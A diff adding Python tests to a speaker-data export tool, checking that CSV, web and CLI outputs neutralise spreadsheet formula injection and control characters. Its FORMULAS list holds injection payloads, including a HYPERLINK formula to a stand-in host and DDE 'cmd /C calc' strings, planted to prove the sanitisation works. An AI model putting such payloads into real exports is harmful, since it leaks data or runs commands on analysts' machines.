@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import csv
 import io
+import re
+import shutil
 
 import pyoxigraph as ox
 import pytest
@@ -12,6 +14,9 @@ from rdflib.compare import isomorphic
 
 from conftest import SAMPLE, ingested
 from graph.export import CSV_COLUMNS, FORMATS, export, rdflib_graph
+from graph.store import open_store
+
+SEED = "_2024-events/15 October 2024/Solidarity in Cyberspace: How To Assist Countries in Need.md"
 
 
 def test_turtle_is_byte_identical_across_runs(sample_store):
@@ -52,3 +57,159 @@ def test_csv_has_the_documented_columns_and_a_row_per_position(sample_store):
 
 def test_formats_are_listed():
     assert set(FORMATS) == {"turtle", "nt", "nquads", "trig", "jsonld", "csv"}
+
+
+# --- what the analyst sees in the CSV, and what a hostile page can put in it ---------------------------
+
+def _rows(data: bytes | str) -> list[dict]:
+    return list(csv.DictReader(io.StringIO(data.decode() if isinstance(data, bytes) else data)))
+
+
+def test_csv_name_is_the_name_printed_at_that_appearance_and_label_the_persons(tmp_path):
+    root = tmp_path / "sicw-2024"
+    shutil.copytree(SAMPLE, root)
+    seed = root / SEED
+    seed.write_text(seed.read_text(encoding="utf-8").replace("Ms Liesyl Franz]", "Ms Liesyl Fränz]"), encoding="utf-8")
+    rows = _rows(export(ingested(root), "csv"))
+    assert list(rows[0])[-1] == "label" and list(rows[0])[:-1] == CSV_COLUMNS[:-1]
+    liesyl = {(r["session_title"][:11], r["name"], r["honorific"], r["label"]) for r in rows
+              if r["person"].endswith("/liesyl-franz")}
+    assert ("Solidarity ", "Liesyl Fränz", "Ms", "Liesyl Franz") in liesyl
+    assert all(label == "Liesyl Franz" for *_, label in liesyl)
+    assert any(name == "Liesyl Franz" for _, name, _, _ in liesyl)  # printed so elsewhere
+    adebahr = {r["name"] for r in rows if r["person"].endswith("/maria-adebahr")}
+    assert adebahr == {"Maria Adebahr"}  # "H.E. Maria Adebahr" as printed, without the honorific
+
+
+FORMULAS = ["=HYPERLINK(\"http://evil.example/\"&A1)", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", " =1+1"]
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory):
+    """The sample with formulas where a page prints titles and organisations."""
+    root = tmp_path_factory.mktemp("hostile") / "sicw-2024"
+    shutil.copytree(SAMPLE, root)
+    seed = root / SEED
+    text = seed.read_text(encoding="utf-8")
+    for old, new in zip(["EU Coordinator for Cyber Issues", "European External Action Service",
+                         "Head of Cyber Defense and Security Division", "Ministry of Foreign Affairs<br>Brazil",
+                         "Federal Foreign Office", "Bureau of Cyberspace and Digital Policy"], FORMULAS):
+        assert old in text
+        text = text.replace(old, new.replace("|", "&#124;"), 1)
+    seed.write_text(text, encoding="utf-8")
+    return ingested(root)
+
+
+def formula_cells(rows: list[list[str]]) -> list[str]:
+    """Cells a spreadsheet would run: a formula character first, or after spaces."""
+    from graph.text import FORMULA
+
+    return [c for row in rows for c in row
+            if c and (c[0] in FORMULA or c.lstrip(" ")[:1] in FORMULA) and not re.fullmatch(r"[+-]?[\d.]+", c)]
+
+
+def test_no_csv_the_project_writes_holds_a_formula(hostile):
+    from graph import netexport
+    from graph import network as networks
+    from graph.results import table, to_csv
+
+    exported = list(csv.reader(io.StringIO(export(hostile, "csv").decode())))
+    planted = {c.lstrip("'") for row in exported for c in row} & {f.replace("&#124;", "|") for f in FORMULAS}
+    assert len(planted) >= 4, "the formulas did not reach the data: the test would prove nothing"
+    assert formula_cells(exported) == []
+    query = "SELECT ?t ?o WHERE { ?p <https://w3id.org/speakergraph/vocab#title> ?t ; " \
+            "<https://w3id.org/speakergraph/vocab#organisationLabel> ?o }"
+    assert formula_cells(list(csv.reader(io.StringIO(to_csv(table(hostile.query(query))))))) == []
+    orgs = netexport.write(networks.network(hostile, "organisations"), "csv").decode()
+    assert formula_cells(list(csv.reader(io.StringIO(orgs)))) == []
+
+
+def test_no_csv_the_web_serves_holds_a_formula(hostile):
+    from web import create_app
+
+    client = create_app({"STORE": hostile}).test_client()
+    query = "SELECT ?t ?o WHERE { ?p <https://w3id.org/speakergraph/vocab#title> ?t ; " \
+            "<https://w3id.org/speakergraph/vocab#organisationLabel> ?o }"
+    for path, args in [("/dataset/appearances.csv", {}), ("/sparql", {"query": query, "format": "csv"}),
+                       ("/network/export.csv", {"kind": "organisations"}), ("/queries/top-organisations.csv", {})]:
+        response = client.get(path, query_string=args)
+        assert response.status_code == 200, path
+        assert formula_cells(list(csv.reader(io.StringIO(response.get_data(as_text=True))))) == [], path
+    tsv = client.get("/sparql", query_string={"query": query, "format": "tsv"}).get_data(as_text=True)
+    values = [c.strip('"') for line in tsv.splitlines()[1:] for c in line.split("\t")]
+    assert formula_cells([values]) == [] and any(v.startswith("'=") for v in values)
+
+
+CONTROL = "Ann\x01 Lee\x1b[31m\x7f\x9b"
+
+
+@pytest.fixture(scope="module")
+def dirty():
+    """A store holding control characters (an older store, or one another tool wrote): outputs must cope."""
+    store = ingested(SAMPLE)
+    person = ox.NamedNode("https://w3id.org/speakergraph/id/person/maria-adebahr")
+    g = ox.NamedNode("https://w3id.org/speakergraph/id/source/sicw/dirty")
+    store.replace({g.value: [ox.Quad(person, ox.NamedNode("https://schema.org/name"), ox.Literal(CONTROL), g),
+                             ox.Quad(g, ox.NamedNode("https://w3id.org/speakergraph/vocab#path"),
+                                     ox.Literal("dirty.md"), g),
+                             ox.Quad(g, ox.NamedNode("https://w3id.org/speakergraph/vocab#contentHash"),
+                                     ox.Literal("x"), g)]})
+    return store
+
+
+@pytest.mark.parametrize("fmt", ["graphml", "gexf"])
+def test_network_xml_is_well_formed_with_control_characters_in_names(dirty, fmt):
+    from xml.etree import ElementTree
+
+    from graph import netexport
+    from graph import network as networks
+
+    net = networks.network(dirty, "people")
+    assert CONTROL in {net.label(n) for n in net.graph} | {d.get("label") for _, d in net.graph.nodes(data=True)}
+    ElementTree.fromstring(netexport.write(net, fmt))
+
+
+def test_sparql_xml_results_and_rdf_xml_are_well_formed_with_control_characters(dirty):
+    from xml.etree import ElementTree
+
+    from web import create_app
+
+    client = create_app({"STORE": dirty}).test_client()
+    select = 'SELECT ?n ("x\\u0001y" AS ?built) WHERE { ?p <https://schema.org/name> ?n }'
+    xml = client.get("/sparql", query_string={"query": select, "format": "xml"})
+    assert xml.status_code == 200
+    ElementTree.fromstring(xml.data)
+    construct = 'CONSTRUCT { ?p <https://schema.org/name> ?n } WHERE { ?p <https://schema.org/name> ?n }'
+    rdfxml = client.get("/sparql", query_string={"query": construct, "format": "rdfxml"})
+    assert rdfxml.status_code == 200
+    ElementTree.fromstring(rdfxml.data)
+    assert b"Ann Lee[31m" in rdfxml.data
+
+
+def test_the_cli_prints_no_escape_sequence(dirty, tmp_path):
+    from click.testing import CliRunner
+
+    import speakergraph
+
+    location = tmp_path / "store"
+    copy = open_store(location)
+    copy.replace({g: list(qs) for g, qs in _by_graph(dirty.quads()).items()})
+    copy.close()
+    runner = CliRunner()
+    table_out = runner.invoke(speakergraph.main, ["query", "--store", str(location),
+                                                  "SELECT ?n WHERE { ?p <https://schema.org/name> ?n }"])
+    csv_out = runner.invoke(speakergraph.main, ["query", "--store", str(location), "-f", "csv",
+                                                "SELECT ?n WHERE { ?p <https://schema.org/name> ?n }"])
+    central = runner.invoke(speakergraph.main, ["central", "--store", str(location), "-n", "400"])
+    for result in (table_out, csv_out, central):
+        assert result.exit_code == 0, result.output
+        assert "\x1b" not in result.output and "\x01" not in result.output and "\x9b" not in result.output
+    assert "Ann" in table_out.output and "Ann" in csv_out.output
+
+
+def _by_graph(quads) -> dict:
+    out: dict = {}
+    for q in quads:
+        out.setdefault(q.graph_name.value, []).append(q)
+    return out
